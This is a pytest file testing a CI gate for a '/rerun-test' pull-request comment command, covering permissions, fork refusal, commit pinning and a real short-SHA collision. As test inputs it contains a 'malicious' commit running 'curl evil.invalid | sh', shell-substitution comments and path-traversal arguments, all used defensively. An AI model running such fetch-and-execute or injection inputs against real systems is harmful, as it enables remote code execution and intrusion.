"""/rerun-test against a local fake GitHub API on 127.0.0.1 that records every request:
the client, the policy, the head-commit pin, and the gate and report steps end to end."""

from __future__ import annotations

import hashlib
import json
import subprocess
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.errors import ProblemReport
from generator.github.client import GitHub, GitHubApiError, Push
from generator.rerun.budget import Budget
from generator.rerun.gate import PullHead, pin_head, read_pull
from generator.rerun.parse import RerunRejected
from generator.rerun.policy import (
    DEFAULT_SOURCE,
    PolicyTeam,
    PolicyUser,
    RerunPolicy,
    authorize,
    load_policy,
    parse_policy,
)
from generator.shipped import rerun_gate
from generator.shipped.rerun_select import FORMS
from tests.support.rerun import (
    E2E,
    LINK_OUT,
    OUTSIDE_SECRET,
    FakeGitHub,
    listed_job,
    serve_runs,
    workflow_run,
    write_rerun_tree,
)

REPO = "octo/gpu"
SHA = "0123456789abcdef0123456789abcdef01234567"
OLD = "fedcba9876543210fedcba9876543210fedcba98"
COMMENTED = "2026-07-20T10:00:00Z"
RUN_URL = "https://github.com/octo/gpu/actions/runs/4242"
FA3 = "test/registered/attention/unittests/dense/test_fa3.py"


@pytest.fixture
def github():
    with FakeGitHub() as server:
        yield server


@pytest.fixture(scope="module")
def tree(tmp_path_factory, corpus) -> Path:
    return write_rerun_tree(tmp_path_factory.mktemp("rerun-tree"), corpus)


def client(server: FakeGitHub) -> GitHub:
    return GitHub(repo=REPO, token="t0k", api_url=server.url)


def permission(login: str, role: str, user_id: int = 7) -> dict:
    legacy = {"maintain": "write", "triage": "read"}.get(role, role)
    return {"permission": legacy, "role_name": role, "user": {"login": login, "id": user_id}}


def pull(sha: str = SHA, fork: bool = False, state: str = "open") -> dict:
    base = {"id": 1, "full_name": REPO}
    head = {"id": 2, "full_name": "mallory/gpu"} if fork else base
    return {"number": 12, "state": state, "base": {"repo": base}, "head": {"sha": sha, "ref": "feature", "repo": head}}


def pushed(at: str, after: str = SHA) -> list[dict]:
    return [{"before": OLD, "after": after, "ref": "refs/heads/feature", "timestamp": at, "activity_type": "push"}]


def pushes(at: str, after: str = SHA) -> list[Push]:
    """The same log as the client reads it."""
    return [Push(after, datetime.fromisoformat(at.replace("Z", "+00:00")), "push")]


# -- the client ----------------------------------------------------------------------------


def test_client_sends_the_token_as_a_bearer_header_to_the_api_only(github):
    github.on("GET", f"/repos/{REPO}/pulls/12", pull())
    assert client(github).pull(12)["head"]["sha"] == SHA
    [request] = github.requests
    assert request.headers["authorization"] == "Bearer t0k"
    assert request.headers["x-github-api-version"] == "2022-11-28"
    assert request.headers["accept"] == "application/vnd.github+json"


def test_http_errors_become_one_line_user_errors(github):
    github.on("GET", f"/repos/{REPO}/pulls/12", {"message": "Resource not accessible by integration"}, status=403)
    with pytest.raises(GitHubApiError) as error:
        client(github).pull(12)
    assert (
        str(error.value) == f"GET /repos/{REPO}/pulls/12: github-api: HTTP 403: Resource not accessible by integration"
    )


def test_hostile_path_arguments_never_reach_the_network(github):
    api = client(github)
    for call in (
        lambda: api.collaborator_permission("../../orgs/x"),
        lambda: api.collaborator_permission("alice?admin=1"),
        lambda: api.branch_activity("octo/gpu/../../x", "main"),
        lambda: api.branch_activity("mallory/gpu", "a b"),
        lambda: api.set_status("HEAD", "success", "c", "d", "u"),
        lambda: api.add_reaction(1, "shipit"),
        lambda: api.pull(0),
    ):
        with pytest.raises(GitHubApiError) as error:
            call()
        assert error.value.problem.code == "github-api-argument"
    assert github.requests == []


def test_an_unreachable_api_is_a_user_error():
    with FakeGitHub() as server:
        url = server.url
    with pytest.raises(GitHubApiError) as error:
        GitHub(repo=REPO, token="t0k", api_url=url).pull(12)
    assert str(error.value) == f"GET /repos/{REPO}/pulls/12: github-api: request failed: ConnectionError"


# -- the policy ----------------------------------------------------------------------------


def test_without_a_policy_file_the_default_is_write_access_no_forks_and_the_default_budgets(tmp_path):
    policy = load_policy(tmp_path / "missing.yml")
    assert policy == RerunPolicy(
        source=DEFAULT_SOURCE,
        permission="write",
        users=(),
        teams=(),
        forks=False,
        require_commit=False,
        max_selectors=8,
        comment_budget=Budget(jobs=4, gpu_minutes=1440),
        pull_request_budget=Budget(jobs=16, gpu_minutes=2880),
        repository_budget=Budget(jobs=64, gpu_minutes=11520),
    )


def test_a_policy_file_is_read_whole():
    text = (
        "version: 1\npermission: admin\nusers: [{login: alice, id: 7}]\nteams: [{team: octo/gpu-ci, id: 42}]\n"
        "forks: true\nrequire_commit: true\nmax_selectors: 3\n"
        "budget:\n  per_comment: {jobs: 2}\n  per_pull_request_per_day: {gpu_minutes: 100}\n"
        "  per_repository_per_day: {jobs: 10, gpu_minutes: 1000}\n"
    )
    assert parse_policy(text, "p.yml") == RerunPolicy(
        "p.yml",
        "admin",
        (PolicyUser("alice", 7),),
        (PolicyTeam("octo/gpu-ci", 42),),
        True,
        True,
        3,
        Budget(2, 1440),
        Budget(16, 100),
        Budget(10, 1000),
    )


def test_policy_mistakes_are_reported_with_their_lines():
    text = (
        "version: 1\npermission: read\nusers: ['bad name', alice]\nteams: [octo/ci]\n"
        "fork: true\nbudget: {per_day: {}}\n"
    )
    with pytest.raises(ProblemReport) as report:
        parse_policy(text, "p.yml")
    assert [p.format() for p in report.value.problems] == [
        "p.yml:1: policy-schema: top level: Additional properties are not allowed ('fork' was unexpected)",
        "p.yml:2: policy-schema: permission: 'read' is not one of ['write', 'maintain', 'admin', None]",
        "p.yml:3: policy-schema: users.0: write {login: bad name, id: <numeric id>}: names can be renamed and reused, "
        "ids cannot (`gh api users/bad name --jq .id`)",
        "p.yml:3: policy-schema: users.1: write {login: alice, id: <numeric id>}: names can be renamed and reused, "
        "ids cannot (`gh api users/alice --jq .id`)",
        "p.yml:4: policy-schema: teams.0: write {team: octo/ci, id: <numeric id>}: names can be renamed and reused, "
        "ids cannot (`gh api orgs/octo/teams/ci --jq .id`)",
        "p.yml:6: policy-schema: budget: Additional properties are not allowed ('per_day' was unexpected)",
    ]
    assert report.value.summary == "6 errors in p.yml"


@pytest.mark.parametrize(
    "role, allowed, reason",
    [
        ("admin", True, "@alice has admin permission"),
        ("maintain", True, "@alice has maintain permission"),
        ("write", True, "@alice has write permission"),
        ("triage", False, "@alice may not run /rerun-test: has triage permission, needs write"),
        ("read", False, "@alice may not run /rerun-test: has read permission, needs write"),
    ],
)
def test_permission_is_checked_live(github, role, allowed, reason):
    github.on("GET", f"/repos/{REPO}/collaborators/alice/permission", permission("alice", role))
    verdict = authorize(RerunPolicy("p"), client(github), "alice", 7)
    assert (verdict.allowed, verdict.reason) == (allowed, reason)
    assert github.calls() == [("GET", f"/repos/{REPO}/collaborators/alice/permission")]


def test_an_unknown_user_has_no_permission(github):
    verdict = authorize(RerunPolicy("p"), client(github), "stranger", 9)
    assert (verdict.allowed, verdict.reason) == (
        False,
        "@stranger may not run /rerun-test: has none permission, needs write",
    )


def test_an_answer_about_another_user_is_refused(github):
    github.on("GET", f"/repos/{REPO}/collaborators/alice/permission", permission("alice", "admin", user_id=99))
    verdict = authorize(RerunPolicy("p"), client(github), "alice", 7)
    assert (verdict.allowed, verdict.reason) == (False, "GitHub's permission answer is not about @alice")


def test_listed_users_need_no_api_call_and_admin_policies_refuse_writers(github):
    listed = RerunPolicy("p.yml", users=(PolicyUser("Alice", 7),))
    assert authorize(listed, client(github), "alice", 7).reason == "@alice (id 7) is listed in p.yml"
    assert authorize(listed, client(github), "alice-renamed", 7).reason == "@alice-renamed (id 7) is listed in p.yml"
    assert github.requests == []
    github.on("GET", f"/repos/{REPO}/collaborators/bob/permission", permission("bob", "write"))
    verdict = authorize(RerunPolicy("p.yml", permission="admin"), client(github), "bob", 7)
    assert (verdict.allowed, verdict.reason) == (
        False,
        "@bob may not run /rerun-test: has write permission, needs admin",
    )


def test_a_listed_login_taken_over_by_another_account_is_not_listed(github):
    """Regression: users were matched by login; a renamed-away login can be registered by anyone."""
    policy = RerunPolicy("p.yml", permission=None, users=(PolicyUser("alice", 7),))
    verdict = authorize(policy, client(github), "alice", 666)
    assert (verdict.allowed, verdict.reason) == (False, "@alice may not run /rerun-test: not listed")
    assert github.requests == []


def test_team_membership_is_checked_and_unreadable_teams_are_explained(github):
    github.on("GET", "/orgs/octo/teams/secret", {"id": 41})
    github.on("GET", "/orgs/octo/teams/secret/memberships/carol", {"message": "Forbidden"}, status=403)
    github.on("GET", "/orgs/octo/teams/gpu-ci", {"id": 42, "slug": "gpu-ci"})
    github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
    policy = RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41), PolicyTeam("octo/gpu-ci", 42)))
    assert authorize(policy, client(github), "carol", 7).reason == "@carol is a member of octo/gpu-ci"
    verdict = authorize(
        RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41),)), client(github), "carol", 7
    )
    assert (verdict.allowed, verdict.reason) == (
        False,
        "@carol may not run /rerun-test: team octo/secret could not be checked (HTTP 403: Forbidden)",
    )


@pytest.mark.parametrize(
    "answer, status, reason",
    [
        ({"id": 99}, 200, "team octo/gpu-ci has id 99, not 42 as the policy says"),
        ({"message": "Not Found"}, 404, "team octo/gpu-ci does not exist, not 42 as the policy says"),
        (
            {"id": "42"},
            200,
            "team octo/gpu-ci could not be checked (unexpected answer: answer.id is a string, not an integer)",
        ),
    ],
    ids=["renamed-and-replaced", "deleted", "malformed"],
)
def test_teams_are_matched_by_id_before_membership(github, answer, status, reason):
    """Regression: a team slug can be renamed and a new team take it; the policy's id decides."""
    github.on("GET", "/orgs/octo/teams/gpu-ci", answer, status=status)
    github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
    verdict = authorize(
        RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/gpu-ci", 42),)), client(github), "carol", 7
    )
    assert (verdict.allowed, verdict.reason) == (False, f"@carol may not run /rerun-test: {reason}")
    assert ("GET", "/orgs/octo/teams/gpu-ci/memberships/carol") not in github.calls()


# -- the head commit -----------------------------------------------------------------------

AT = datetime(2026, 7, 20, 10, 0, tzinfo=timezone.utc)
HEAD = PullHead(sha=SHA, repo=REPO, branch="feature", fork=False)
POLICY = RerunPolicy("policy.yml")
UNPROVEN = (
    f"no push record shows when 0123456789ab became the head of {REPO}:feature; "
    "nothing runs on a head that cannot be shown to predate the comment"
)
PUSHED_AFTER = "0123456789ab was pushed at 2026-07-20T10:00:05Z, after the comment: review it and comment again"
SAME_SECOND = (
    "0123456789ab was pushed at 2026-07-20T10:00:00Z, the same second as the comment, "
    "so which came first cannot be told: review it and comment again"
)


@pytest.mark.parametrize(
    "head, pin, activity, policy, code, reason",
    [
        (HEAD, OLD, pushes("2026-07-20T09:00:00Z"), POLICY, "head-moved",
         "the head is now 0123456789ab, not @fedcba987654: review the new commits and comment again"),
        (HEAD, None, pushes("2026-07-20T10:00:05Z"), POLICY, "head-moved", PUSHED_AFTER),
        (HEAD, None, pushes("2026-07-20T10:00:00Z"), POLICY, "same-second-push", SAME_SECOND),
        (HEAD, SHA, pushes("2026-07-20T10:00:00Z"), POLICY, "same-second-push", SAME_SECOND),
        (HEAD, SHA, pushes("2026-07-20T10:00:05Z"), POLICY, "head-moved", PUSHED_AFTER),
        (HEAD, None, pushes("2026-07-20T09:00:00Z", after=OLD), POLICY, "head-moved",
         f"the last push to {REPO}:feature is not the head 0123456789ab: review the new commits and comment again"),
        (HEAD, None, [], POLICY, "head-unproven", UNPROVEN),
        (HEAD, SHA, None, POLICY, "head-unproven", UNPROVEN),
        (HEAD, None, pushes("2026-07-20T09:00:00Z"), RerunPolicy("policy.yml", require_commit=True), "commit-required",
         "policy.yml requires naming the commit you reviewed: /rerun-test FILE @<sha>"),
        (PullHead(SHA, "mallory/gpu", "feature", True), SHA, None, POLICY, "fork",
         "the pull request comes from the fork mallory/gpu, and policy.yml does not allow forks"),
    ],
    ids=["pin differs", "pushed after the comment", "pushed in the same second", "pinned, pushed in the same second",
         "pinned, pushed after", "log disagrees", "no log", "pinned, no log", "pin required", "fork"],
)  # fmt: skip
def test_a_head_that_moved_or_cannot_be_proven_is_refused(head, pin, activity, policy, code, reason):
    with pytest.raises(RerunRejected) as rejected:
        pin_head(head, pin, AT, activity, policy)
    assert (rejected.value.code, rejected.value.reason) == (code, reason)


def test_a_head_pushed_strictly_before_the_comment_is_accepted_pinned_or_not():
    assert pin_head(HEAD, None, AT, pushes("2026-07-20T09:59:59Z"), POLICY) == SHA
    assert pin_head(HEAD, SHA, AT, pushes("2026-07-20T09:59:59Z"), POLICY) == SHA
    fork = PullHead(SHA, "mallory/gpu", "feature", True)
    assert pin_head(fork, None, AT, pushes("2026-07-20T09:59:00Z"), RerunPolicy("p", forks=True)) == SHA


@pytest.mark.parametrize(
    "answer, code, reason",
    [
        (pull(state="closed"), "pull-closed", "pull request #12 is closed"),
        (
            {**pull(), "head": {"sha": SHA, "ref": "feature", "repo": None}},
            "head-repo-gone",
            "the head repository of #12 was deleted",
        ),
        ({**pull(), "number": 13}, "wrong-pull", f"GitHub answered about another pull request than #12 of {REPO}"),
        (pull(sha="main"), "bad-head", "the head commit of #12 is not a commit SHA"),
    ],
)
def test_the_live_pull_request_must_be_open_and_ours(answer, code, reason):
    with pytest.raises(RerunRejected) as rejected:
        read_pull(answer, REPO, 12)
    assert (rejected.value.code, rejected.value.reason) == (code, reason)


# -- a real short-SHA collision ---------------------------------------------------------------


def _commit_body(tree: str, message: str) -> bytes:
    stamp = "1784541600 +0000"
    return (
        f"tree {tree}\nauthor Dev <dev@x.invalid> {stamp}\ncommitter Dev <dev@x.invalid> {stamp}\n\n{message}\n"
    ).encode()


def _git_sha(body: bytes) -> str:
    """What `git hash-object -t commit` computes: SHA-1 over the object header and body."""
    return hashlib.sha1(b"commit %d\0" % len(body) + body).hexdigest()


@pytest.fixture(scope="module")
def collision(tmp_path_factory) -> tuple[str, str, Path]:
    """A benign and a malicious commit of one real repository whose SHAs share the first 7 hex
    digits: a birthday search over commit messages (2 x ~2^14 SHA-1s, well under a second)."""
    repo = tmp_path_factory.mktemp("collision")

    def git(*args: str, data: bytes | None = None) -> str:
        done = subprocess.run(["git", *args], cwd=repo, input=data, capture_output=True, check=True)
        return done.stdout.decode().strip()

    git("init", "-q")
    trees = {}
    for kind, source in (
        ("benign", "print('ok')\n"),
        ("malicious", "import os\nos.system('curl evil.invalid | sh')\n"),
    ):
        blob = git("hash-object", "-w", "--stdin", data=source.encode())
        trees[kind] = git("mktree", data=f"100644 blob {blob}\ttest_x.py\n".encode())
    seen: dict[str, dict[str, bytes]] = {"benign": {}, "malicious": {}}
    number = 0
    while True:
        for kind, other in (("benign", "malicious"), ("malicious", "benign")):
            body = _commit_body(trees[kind], f"{kind} change {number}")
            prefix = _git_sha(body)[:7]
            if prefix in seen[other]:
                bodies = {kind: body, other: seen[other][prefix]}
                shas = {k: git("hash-object", "-t", "commit", "-w", "--stdin", data=b) for k, b in bodies.items()}
                assert shas == {k: _git_sha(b) for k, b in bodies.items()}
                return shas["benign"], shas["malicious"], repo
            seen[kind][prefix] = body
        number += 1


def test_the_collision_is_two_real_commits_git_itself_cannot_tell_apart_by_7_digits(collision):
    benign, malicious, repo = collision
    assert benign != malicious and benign[:7] == malicious[:7]
    for sha in (benign, malicious):
        assert (
            subprocess.run(["git", "cat-file", "-t", sha], cwd=repo, capture_output=True, text=True).stdout
            == "commit\n"
        )
    ambiguous = subprocess.run(
        ["git", "rev-parse", "--verify", "--quiet", f"{benign[:7]}^{{commit}}"], cwd=repo, capture_output=True
    )
    assert ambiguous.returncode != 0


def test_a_full_pin_of_the_benign_commit_refuses_the_malicious_head(collision):
    benign, malicious, _ = collision
    head = PullHead(malicious, REPO, "feature", False)
    with pytest.raises(RerunRejected) as rejected:
        pin_head(head, benign, AT, pushes("2026-07-20T09:00:00Z", after=malicious), POLICY)
    assert (rejected.value.code, rejected.value.reason) == (
        "head-moved",
        f"the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again",
    )


# -- the gate step, end to end ---------------------------------------------------------------


def gate_env(
    server: FakeGitHub, output: Path, body: str, author: str = "alice", association: str = "MEMBER", attempt: int = 1
) -> dict:
    return {
        "GITHUB_RUN_ATTEMPT": str(attempt),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_TOKEN": "t0k",
        "GITHUB_API_URL": server.url,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_RUN_ID": "4242",
        "GITHUB_OUTPUT": str(output),
        "COMMENT_BODY": body,
        "COMMENT_ID": "101",
        "COMMENT_AUTHOR": author,
        "COMMENT_AUTHOR_ID": "7",
        "COMMENT_AUTHOR_ASSOCIATION": association,
        "COMMENT_CREATED_AT": COMMENTED,
        "PR_NUMBER": "12",
    }


def run_gate(
    server: FakeGitHub,
    tree: Path,
    tmp_path: Path,
    body: str,
    *args: str,
    author: str = "alice",
    association: str = "MEMBER",
    attempt: int = 1,
):
    output = tmp_path / "github_output"
    output.write_text("")
    result = CliRunner().invoke(
        cli,
        ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "policy.yml"), *args],
        env=gate_env(server, output, body, author, association, attempt),
    )
    return result, output.read_text()


PERMISSION = ("GET", f"/repos/{REPO}/collaborators/alice/permission")
PULL = ("GET", f"/repos/{REPO}/pulls/12")
ACTIVITY = ("GET", f"/repos/{REPO}/activity")
COMMENTS = ("GET", f"/repos/{REPO}/issues/comments")
WORKFLOW = "cigen-rerun-test.yml"
RUNS = ("GET", f"/repos/{REPO}/actions/workflows/{WORKFLOW}/runs")
BUDGET = [RUNS] * 12  # one listing per run state but skipped
E2E_JOB = "rerun-nightly-1-gpu-on-1-gpu-h100"
REACT = ("POST", f"/repos/{REPO}/issues/comments/101/reactions")
REPLY = ("POST", f"/repos/{REPO}/issues/12/comments")
STATUS = ("POST", f"/repos/{REPO}/statuses/{SHA}")
REFUSED_TRAIL = [REACT, REPLY]


def serve_happy_path(
    server: FakeGitHub,
    activity: list[dict] | None = None,
    runs: list[dict] | None = None,
    jobs: dict[int, list[dict]] | None = None,
) -> None:
    server.on(*PERMISSION, permission("alice", "write"))
    server.on(*PULL, pull())
    server.on(*ACTIVITY, activity if activity is not None else pushed("2026-07-20T09:58:00Z"))
    serve_runs(server, REPO, WORKFLOW, runs or [], jobs or {})
    server.on(*REACT, {"content": "x"}, status=201)
    server.on(*REPLY, {"id": 555}, status=201)
    server.on(*STATUS, {"state": "pending"}, status=201)


def replies(server: FakeGitHub) -> list[str]:
    return [body["body"] for body in server.bodies(*REPLY)]


def rejection(reason: str, mention: str = "@alice") -> str:
    forms = "\n".join(f"- `{form}`" for form in FORMS)
    return (
        f"<!-- cigen:rerun-test -->\n{mention}: nothing was run.\n\n```text\n{reason}\n```\n\n"
        f"Usage: `/rerun-test SELECTOR ... [@<full sha>]`, one line. A selector is:\n{forms}"
    )


def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
    serve_happy_path(github)
    selector = f"{FA3}::TestFeature0.test_generate_0"
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {selector}\n\n")
    assert result.exit_code == 0, result.output
    assert result.stdout == f"accepted: 2 test jobs at {SHA}\n"
    assert github.calls() == [PERMISSION, PULL, ACTIVITY, *BUDGET, REACT, REPLY, STATUS, STATUS]
    assert github.requests[2].query == {"ref": "refs/heads/feature", "direction": "desc", "per_page": "10"}
    states = [request.query.pop("status") for request in github.requests[3:15]]
    assert states == [
        "requested", "waiting", "pending", "queued", "in_progress", "action_required",
        "success", "failure", "cancelled", "timed_out", "neutral", "stale",
    ]  # fmt: skip
    assert github.requests[3].query == {"created": ">=2026-07-19T10:00:00Z", "per_page": "100", "page": "1"}
    assert COMMENTS not in github.calls()  # comments can be edited: they never count
    assert github.bodies(*REACT) == [{"content": "rocket"}]
    large, b200 = "`base-b-test-1-gpu-large` on `1-gpu-h100`", "`base-b-test-4-gpu-b200` on `4-gpu-b200`"
    assert replies(github) == [
        "<!-- cigen:rerun-test -->\n"
        f"/rerun-test by @alice at `0123456789ab`: 2 test jobs, an estimated 3 GPU-minutes ([workflow run]({RUN_URL}))"
        "\n\n| test | job | result | duration |\n|---|---|---|---|\n"
        f"| `{selector}` | {large} | ⏳ queued |  |\n"
        f"| `{selector}` | {b200} | ⏳ queued |  |"
    ]
    assert github.bodies(*STATUS) == [
        {
            "state": "pending",
            "context": f"rerun-test {selector} (base-b-test-1-gpu-large on 1-gpu-h100)",
            "description": "queued by @alice",
            "target_url": RUN_URL,
        },
        {
            "state": "pending",
            "context": f"rerun-test {selector} (base-b-test-4-gpu-b200 on 4-gpu-b200)",
            "description": "queued by @alice",
            "target_url": RUN_URL,
        },
    ]
    lines = dict(line.split("=", 1) for line in outputs.splitlines())
    assert lines["accepted"] == "true" and lines["head_sha"] == SHA and lines["reply_id"] == "555"
    b200_job = "rerun-base-b-test-4-gpu-b200-on-4-gpu-b200"
    assert json.loads(lines["jobs"]) == ["rerun-base-b-test-1-gpu-large-on-1-gpu-h100", b200_job]
    targets = json.loads(lines["targets"])
    assert targets[b200_job] == [
        {
            "selector": selector,
            "job": b200_job,
            "suite": "base-b-test-4-gpu-b200",
            "pool": "4-gpu-b200",
            "files": [FA3],
            "test": "TestFeature0.test_generate_0",
            "est_seconds": 25.0,
            "gpus": 4,
            "gpu_minutes": 2,
            "job_name": f"{selector} on 4-gpu-b200: base-b-test-4-gpu-b200 (2 GPU-min)",
            "status_context": f"rerun-test {selector} (base-b-test-4-gpu-b200 on 4-gpu-b200)",
        }
    ]


def test_gate_refuses_a_commenter_without_permission_and_never_echoes_the_comment(github, tree, tmp_path):
    github.on("GET", f"/repos/{REPO}/collaborators/mallory/permission", permission("mallory", "read"))
    github.on(*REACT, {}, status=201)
    github.on(*REPLY, {"id": 556}, status=201)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @everyone <img src=x>", author="mallory")
    assert result.exit_code == 0, result.output
    assert result.stdout == "rejected: @mallory may not run /rerun-test: has read permission, needs write\n"
    assert outputs == "accepted=false\n"
    assert github.calls() == [("GET", f"/repos/{REPO}/collaborators/mallory/permission"), REACT, REPLY]
    assert github.bodies(*REACT) == [{"content": "-1"}]
    assert replies(github) == [
        "<!-- cigen:rerun-test -->\n@mallory: /rerun-test is limited to people with write permission or above "
        "on this repository. Ask a maintainer to run it."
    ]


def test_gate_explains_a_hostile_comment_inside_a_fence_it_cannot_break(github, tree, tmp_path):
    serve_happy_path(github)
    marker = tmp_path / "pwned"
    body = f"/rerun-test {E2E}```$(touch {marker})``` @here"
    result, outputs = run_gate(github, tree, tmp_path, body)
    assert result.exit_code == 0, result.output
    assert outputs == "accepted=false\n"
    assert github.calls() == [PERMISSION, REACT, REPLY]
    assert github.bodies(*REACT) == [{"content": "confused"}]
    assert replies(github) == [rejection("'@here': name the commit as @ and its full 40-hex-digit SHA")]
    result, _ = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}```$(touch {marker})```")
    [_, answer] = replies(github)
    assert answer.split("\n")[3:6] == [
        "````text",
        f"'{E2E}```$(touch': shell metacharacter '`' is not allowed",
        f"'{marker})```': shell metacharacter ')' is not allowed",
    ]
    assert answer.split("\n")[6] == "````"
    assert not marker.exists()


def test_gate_refuses_when_the_pr_moved_after_the_comment(github, tree, tmp_path):
    serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z"))
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert (
        result.stdout
        == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
    )
    assert outputs == "accepted=false\n"
    assert STATUS not in github.calls()


def test_gate_refuses_a_push_in_the_same_second_as_the_comment(github, tree, tmp_path):
    """Regression: `pushed_at <= commented_at` accepted a push made in the comment's second."""
    serve_happy_path(github, activity=pushed(COMMENTED))
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.exit_code == 0, result.output
    reason = (
        "0123456789ab was pushed at 2026-07-20T10:00:00Z, the same second as the comment, so which came first "
        "cannot be told: review it and comment again"
    )
    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
    assert replies(github) == [rejection(reason)]
    assert STATUS not in github.calls()


def test_gate_with_a_full_pin_still_needs_the_push_log(github, tree, tmp_path):
    serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z"))
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA.upper()}")
    assert (
        result.stdout
        == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
    )
    assert ACTIVITY in github.calls() and STATUS not in github.calls()
    github.on(*ACTIVITY, pushed("2026-07-20T09:00:00Z"))
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n"


def test_gate_refuses_a_short_pin_that_a_malicious_commit_shares(github, tree, tmp_path, collision):
    """Regression: `@<7 hex>` was checked with startswith and skipped the push log, so a commit
    with the same prefix pushed after the maintainer's comment ran under that approval."""
    benign, malicious, _ = collision
    serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z", after=malicious))
    github.on(*PULL, pull(sha=malicious))
    github.on("POST", f"/repos/{REPO}/statuses/{malicious}", {}, status=201)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{benign[:7]}")
    assert result.exit_code == 0, result.output
    assert outputs == "accepted=false\n"
    reason = (
        f"'@{benign[:7]}': a short SHA is not accepted (another commit can share its first digits); "
        "name the commit as @ and its full 40-hex-digit SHA"
    )
    assert replies(github) == [rejection(reason)]
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{benign}")
    assert outputs == "accepted=false\n"
    assert (
        result.stdout
        == f"rejected: the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again\n"
    )
    assert not [call for call in github.calls("POST") if "/statuses/" in call[1]]


def test_gate_refuses_forks_unless_the_policy_allows_them(github, tree, tmp_path):
    serve_happy_path(github)
    github.on(*PULL, pull(fork=True))
    github.on("GET", "/repos/mallory/gpu/activity", pushed("2026-07-20T09:00:00Z"))
    result, _ = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == (
        "rejected: the pull request comes from the fork mallory/gpu, "
        "and <default /rerun-test policy> does not allow forks\n"
    )
    (tmp_path / "policy.yml").write_text("version: 1\nforks: true\n")
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n"
    assert ("GET", "/repos/mallory/gpu/activity") in github.calls()


FILES = ("GET", f"/repos/{REPO}/pulls/12/files")


def test_changed_runs_the_registered_test_files_the_pull_request_changes_at_the_pinned_head(github, tree, tmp_path):
    serve_happy_path(github)
    changed = [
        {"filename": E2E, "status": "modified"},
        {"filename": "test/registered/rl/test_fp32_lm_head.py", "status": "removed"},
        {"filename": "python/sglang/srt/server.py", "status": "modified"},
        {"filename": "test/registered/rl/test_brand_new.py", "status": "added"},
    ]
    github.on(*FILES, changed)
    result, outputs = run_gate(github, tree, tmp_path, "/rerun-test --changed")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n", result.output
    assert github.calls()[:5] == [PERMISSION, PULL, ACTIVITY, FILES, PULL]  # the head is read again after
    targets = json.loads(dict(line.split("=", 1) for line in outputs.splitlines())["targets"])
    assert [(t["selector"], t["files"]) for t in targets[E2E_JOB]] == [("--changed", [E2E])]


def test_changed_refuses_a_head_that_moved_while_the_files_were_read(github, tree, tmp_path):
    serve_happy_path(github)
    github.on(*FILES, lambda request: github.on(*PULL, pull(sha=OLD)) and [{"filename": E2E, "status": "modified"}])
    result, outputs = run_gate(github, tree, tmp_path, "/rerun-test --changed")
    assert (
        result.stdout
        == "rejected: the head moved while its changed files were read: review the new commits and comment again\n"
    )
    assert outputs == "accepted=false\n"


def test_changed_on_a_fork_is_refused_as_a_fork_before_its_files_are_read(github, tree, tmp_path):
    serve_happy_path(github)
    github.on(*PULL, pull(fork=True))
    github.on(*FILES, [{"filename": E2E, "status": "modified"}])
    result, outputs = run_gate(github, tree, tmp_path, "/rerun-test --changed")
    assert result.stdout == (
        "rejected: the pull request comes from the fork mallory/gpu, "
        "and <default /rerun-test policy> does not allow forks\n"
    )
    assert FILES not in github.calls() and STATUS not in github.calls()


@pytest.mark.parametrize(
    "body",
    [f"/Rerun-test {E2E}", f"/RERUN-TEST {E2E}", f"/rerun-TEST {E2E}", f" /rerun-test {E2E}", f"/rerun-test\n{E2E}"],
)
def test_gate_ignores_a_comment_that_is_not_exactly_the_command_without_an_api_call(github, tree, tmp_path, body):
    """Regression: the workflow's `startsWith` is case-insensitive; the gate re-checks exactly,
    before reading anything or calling the API (a stranger's comment costs nothing)."""
    result, outputs = run_gate(github, tree, tmp_path, body)
    assert result.exit_code == 0, result.output
    assert (result.stdout, outputs) == (
        "rejected: ignored: the comment does not start with /rerun-test (case-sensitive)\n",
        "accepted=false\n",
    )
    assert github.requests == []


@pytest.mark.parametrize("association", ["NONE", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", "member"])
def test_gate_refuses_strangers_by_association_before_any_permission_call(github, tree, tmp_path, association):
    serve_happy_path(github)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}", association=association)
    assert result.exit_code == 0, result.output
    shown = "unknown" if association == "member" else association
    assert (result.stdout, outputs) == (f"rejected: @alice is {shown} to this repository\n", "accepted=false\n")
    assert github.calls() == REFUSED_TRAIL
    assert github.bodies(*REACT) == [{"content": "-1"}]


